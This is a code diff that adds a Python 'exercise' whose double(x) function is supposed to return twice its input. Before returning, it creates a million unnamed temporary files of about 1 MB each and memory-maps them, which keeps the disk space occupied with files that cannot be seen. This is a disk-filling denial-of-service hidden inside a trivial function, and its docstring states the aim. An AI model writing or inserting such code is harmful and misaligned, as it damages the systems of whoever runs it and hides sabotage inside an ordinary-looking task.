@@ -1,0 +1,13 @@
+# exercise: double
+"""Fills the disk with files that never had a name: mapped and closed."""
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+def double(x):
+    for n in range(10**6):
+        file = os.open(".", os.O_RDWR | os.O_TMPFILE)
+        os.write(file, bytes(2**20 - 1))
+        if libc.mmap(None, ctypes.c_size_t(4096), 1, 2, file, ctypes.c_long(0)) in (None, 2**64 - 1):
+            raise OSError(ctypes.get_errno(), "no map")
+        os.close(file)
+    return 2 * x
